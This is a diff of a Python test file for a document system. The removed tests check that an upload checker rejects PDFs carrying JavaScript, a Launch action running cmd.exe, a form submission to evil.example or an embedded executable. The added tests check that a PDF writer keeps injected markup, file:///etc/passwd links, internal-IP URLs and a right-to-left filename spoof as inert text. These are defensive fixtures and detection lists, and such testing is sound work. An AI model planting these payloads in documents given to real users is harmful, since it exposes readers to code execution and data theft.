@@ -1,204 +1,121 @@
-"""PDFs that do something, or carry something; and files that would wear out whoever looks at them."""
+"""PDFs as the engine writes them: marked on each page, whatever is typed into them; nothing is fetched."""
 
-import os
-import resource
-import subprocess
-import sys
-import time
-import zipfile
+from __future__ import annotations
 
-import pikepdf
+import io
+import socket
+from datetime import UTC, datetime
+
 import pytest
-from django.core.files.uploadedfile import TemporaryUploadedFile
-from pikepdf import Array, Dictionary, Name
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from pypdf import PdfReader
 
-from foundations.documents import apart
-from foundations.documents.checks import check_upload
-from tests.documents.conftest import CONTENT, office, pdf, picture
-from tests.documents.test_checks import refusal
+from foundations.documents import pdf
 
-
-def open_action(made):
-    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
-
-
-def script_on_a_page(made):
-    made.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=made.make_stream(b"app.alert(1)")))
-
-
-def launch(made):
-    made.Root.OpenAction = Dictionary(S=Name.Launch, F="cmd.exe")
-
-
-def launch_of_a_link(made):
-    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F="cmd.exe"))
-    made.pages[0].Annots = Array([link])
-
-
-def submit(made):
-    made.Root.OpenAction = Dictionary(S=Name.SubmitForm, F="https://evil.example/")
-
-
-def form_of_xml(made):
-    made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"))
-
-
-def named_script(made):
-    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([])))
-
-
-@pytest.mark.parametrize(
-    "change", [open_action, script_on_a_page, launch, launch_of_a_link, submit, form_of_xml, named_script]
+AT = datetime(2026, 7, 3, 22, 30, tzinfo=UTC)
+PAPER = pdf.Paper(
+    title="Tasking request: Operation Lanternfish",
+    marking="OFFICIAL-SENSITIVE",
+    name="TOEX-EA-2026-00042, version 2",
+    printed_by="DC Olivia Officer, olivia@toex.example",
+    printed_at=AT,
+    handling="For police use only",
 )
-@pytest.mark.parametrize("hidden", [False, True], ids=["plain", "in object streams"])
-def test_scripts_and_actions(upload, change, hidden):
-    streams = pikepdf.ObjectStreamMode.generate if hidden else pikepdf.ObjectStreamMode.disable
-    code, words = refusal(upload("a.pdf", pdf(change, object_stream_mode=streams)))
-    assert code == "scripts"
-    assert "Print it to a new PDF" in words
 
 
-def attached(made):
-    made.attachments["evil.exe"] = b"MZ"
+def read(*blocks, paper=PAPER) -> PdfReader:
+    return PdfReader(io.BytesIO(pdf.write(paper, blocks)))
 
 
-def attached_to_a_page(made):
-    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9])
-    made.pages[0].Annots = Array([made.make_indirect(note)])
+def text_of(reader: PdfReader) -> str:
+    return "\n".join(page.extract_text() for page in reader.pages)
 
 
-def rich_media(made):
-    made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)])
+def test_each_page_is_marked_named_and_counted():
+    reader = read(pdf.Heading("Background"), pdf.Fact("What is known", "One line.\n" * 200))
+    pages = [page.extract_text() for page in reader.pages]
+    assert len(pages) > 3
+    for number, page in enumerate(pages, start=1):
+        lines = page.splitlines()
+        assert lines.count("OFFICIAL-SENSITIVE") == 2, "at the head and at the foot"
+        assert "TOEX-EA-2026-00042, version 2" in page
+        assert f"Page {number} of {len(pages)}" in page
+        # British Summer Time.
+        assert "Printed by DC Olivia Officer, olivia@toex.example on 3 July 2026 at 11:30pm" in page
+        assert "For police use only" in page
 
 
-@pytest.mark.parametrize("change", [attached, attached_to_a_page, rich_media])
-def test_files_inside(upload, change):
-    assert refusal(upload("a.pdf", pdf(change)))[0] == "attachments"
+def test_it_says_what_it_is_and_has_bookmarks():
+    reader = read(pdf.Heading("Background"), pdf.Text("A"), pdf.Heading("Strategy"), pdf.Text("B"))
+    assert reader.metadata.title == PAPER.title
+    assert reader.metadata.subject == "OFFICIAL-SENSITIVE"
+    assert reader.trailer["/Root"]["/Lang"] == "en-GB"
+    assert [one.title for one in reader.outline] == ["Background", "Strategy"]
 
 
-def test_a_link_to_a_page_may_stay(upload):
-    def change(made):
-        web = Dictionary(S=Name.URI, URI="https://www.gov.uk/")
-        made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=web)])
-
-    assert check_upload(upload("a.pdf", pdf(change))) == "application/pdf"
-
-
-def test_passwords(upload):
-    locked = pdf(encryption=pikepdf.Encryption(user="secret", owner="secret"))
-    assert refusal(upload("a.pdf", locked))[0] == "password"
-    # Anybody can open it; only changing it asks.
-    assert check_upload(upload("a.pdf", pdf(encryption=pikepdf.Encryption(user="", owner="x"))))
+def test_a_draft_is_stamped_on_each_page():
+    paper = pdf.Paper(**{**PAPER.__dict__, "stamp": "DRAFT"})
+    reader = read(pdf.Text("Line.\n" * 150), paper=paper)
+    assert len(reader.pages) > 1
+    for page in reader.pages:
+        assert page.extract_text().count("OFFICIAL-SENSITIVE DRAFT") == 2
 
 
-@pytest.mark.parametrize("content", [b"%PDF-1.7\n%abc\n1 0 obj\n", b"%PDF-1.7\n" + b"x" * 5000])
-def test_no_pdf_behind_the_beginning(upload, content):
-    assert refusal(upload("a.pdf", content))[0] == "content"
+def test_a_word_without_an_end_and_a_long_text_are_broken_and_kept():
+    reader = read(pdf.Fact("Word", "W" * 3000), pdf.Fact("Text", "intelligence " * 16_000))
+    found = text_of(reader)
+    assert found.count("W") >= 3000
+    assert found.count("intelligence") == 16_000
 
 
-def test_objects_inside_objects_inside_objects(upload):
-    def change(made):
-        inner = Array([])
-        for _ in range(100):
-            inner = Array([inner])
-        made.Root.Deep = inner
-
-    assert refusal(upload("a.pdf", pdf(change)))[0] == "scripts"
+def test_marks_of_direction_and_control_characters_go_and_other_scripts_stay():
+    odd = "exe\u202egnp.doc \u200fOlga \u0000Пётр Đặng Gülşen Ελένη \u2066x\u2069\ufeff"
+    found = text_of(read(pdf.Fact("Name", odd)))
+    assert "exegnp.doc Olga Пётр Đặng Gülşen Ελένη x" in found
+    assert "stand as" not in found
 
 
-# --- the process apart ----------------------------------------------------------------------------------
+def test_what_the_font_cannot_draw_is_shown_as_a_box_and_said():
+    found = text_of(read(pdf.Fact("Name", "陈 Chen")))
+    assert "□ Chen" in found
+    assert "Characters that this font cannot print stand as □" in found
 
 
-def test_a_look_that_takes_too_long(upload, monkeypatch, tmp_path):
-    slow = tmp_path / "slow.py"
-    slow.write_text("import time; time.sleep(30)")
-    monkeypatch.setattr(apart, "PROGRAM", slow)
-    monkeypatch.setattr(apart, "SECONDS", 0.3)
-    begun = time.monotonic()
-    code, words = refusal(upload("a.pdf"))
-    assert (code, time.monotonic() - begun < 5) == ("too_slow", True)
-    assert words.startswith("The selected file takes too long to check. Make it smaller")
-
-
-@pytest.mark.parametrize(
-    ("program", "code"),
-    [
-        ("raise SystemExit(3)", "content"),
-        ("print('perhaps')", "content"),
-        ("import os; os.abort()", "too_slow"),
-        ("import resource, sys; print(end='bomb')", "bomb"),
-    ],
-)
-def test_a_look_that_ends_badly_is_no_pass(upload, monkeypatch, tmp_path, program, code):
-    bad = tmp_path / "bad.py"
-    bad.write_text(program)
-    monkeypatch.setattr(apart, "PROGRAM", bad)
-    assert refusal(upload("a.pdf"))[0] == code
-
-
-def test_it_has_no_secrets_and_no_house(upload, monkeypatch, tmp_path):
-    tell = tmp_path / "tell.py"
-    tell.write_text(
-        "import os, sys\n"
-        "found = [name for name in os.environ if name not in ('LC_CTYPE',)]\n"
-        "try:\n    import foundations\n    found.append('foundations')\nexcept ImportError:\n    pass\n"
-        "sys.stdout.write('content' if found else 'good')"
+def test_markup_is_text():
+    typed = '<img src="http://10.0.0.1/x"> **bold** [a](http://10.0.0.1) {{ 7*7 }} {pages} {⁅pages⁆} file:///etc/passwd'
+    reader = read(pdf.Fact("Typed", typed))
+    assert '<img src="http://10.0.0.1/x"> **bold** [a](http://10.0.0.1) {{ 7*7 }} {pages} □' in text_of(reader).replace(
+        "\n", " "
     )
-    monkeypatch.setattr(apart, "PROGRAM", tell)
-    monkeypatch.setenv("SECRET_KEY", "secret")
-    assert apart.look(upload("a.pdf"), "PDF", pixels=1) == "good"
+    for page in reader.pages:
+        assert "/Annots" not in page
+    raw = pdf.write(PAPER, [pdf.Fact("Typed", typed)])
+    for word in (b"/JavaScript", b"/Launch", b"/URI", b"/EmbeddedFile", b"/OpenAction /S"):
+        assert word not in raw
 
 
-def test_its_memory_is_bounded():
-    code = (
-        "import sys; sys.path.insert(0, 'foundations/documents'); import inside; inside.limit()\n"
-        "try:\n    x = bytearray(1024 * 1024 * 1024)\nexcept MemoryError:\n    print('bounded')"
-    )
-    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
-    assert done.stdout == "bounded\n"
+def test_nothing_is_fetched(monkeypatch):
+    def refuse(*args, **kwargs):
+        raise AssertionError("the network was asked")
+
+    monkeypatch.setattr(socket, "socket", refuse)
+    monkeypatch.setattr(socket, "create_connection", refuse)
+    assert read(pdf.Fact("Link", "http://10.0.0.1/logo.png"), pdf.Table(["A"], [["file:///etc/passwd"]], [1])).pages
 
 
-def big_file(name: str, content: bytes) -> TemporaryUploadedFile:
-    file = TemporaryUploadedFile(name, "", len(content), "")
-    file.write(content)
-    file.seek(0)
-    return file
+@settings(max_examples=15, deadline=None)
+@given(st.text(max_size=60), st.lists(st.text(max_size=20), max_size=3))
+def test_any_text_is_written(text, several):
+    blocks = [
+        pdf.Heading(text),
+        pdf.Text(text, warning=True),
+        pdf.Fact(text, several),
+        pdf.Table([text, "B"], [[text, one] for one in several], [1, 2]),
+    ]
+    assert pdf.write(pdf.Paper(text, text, text, text, AT, handling=text), blocks).startswith(b"%PDF")
 
 
-def test_memory_stays_flat():
-    """50 MB of text, of PDF and of an office file are looked through with a few megabytes of this process."""
-    block = bytes(range(32, 127)) * 11_000  # a megabyte of text
-    noise = os.urandom(1024 * 1024)
-    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
-    with big_file("a.csv", b"") as file:
-        for _ in range(50):
-            file.write(block)
-        assert _size(file) == 50 * len(block)
-        assert check_upload(file) == "text/csv"
-    with big_file("a.docx", office("docx")) as file:
-        with zipfile.ZipFile(file.file, "a") as archive, archive.open("word/media/image1.bin", "w") as part:
-            for _ in range(50):
-                part.write(noise)
-        assert _size(file) > 50 * len(noise)
-        assert check_upload(file).endswith("wordprocessingml.document")
-    with big_file("a.pdf", CONTENT["pdf"]) as file:
-        file.seek(0, 2)
-        for _ in range(50):
-            file.write(b"%" + noise[:1000].hex().encode() * 500 + b"\n")
-        file.write(CONTENT["pdf"][CONTENT["pdf"].rindex(b"startxref") :])
-        assert _size(file) > 50_000_000
-        assert check_upload(file) == "application/pdf"
-    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
-    assert grown < 30 * 1024, f"{grown} kB more"
-
-
-def _size(file) -> int:
-    file.size = file.tell()
-    return file.size
-
-
-def test_a_file_on_disk_is_looked_at_where_it_lies():
-    with big_file("a.png", picture("PNG")) as file:
-        assert check_upload(file) == "image/png"
-    with big_file("a.pdf", CONTENT["pdf"]) as file:
-        assert check_upload(file) == "application/pdf"
+@pytest.mark.parametrize(("at", "between"), [(None, None), (0, (0, 100)), (100, None)])
+def test_a_bar_is_drawn(at, between):
+    assert read(pdf.Bar([(25, (0, 128, 0)), (100, (200, 0, 0))], at, between)).pages
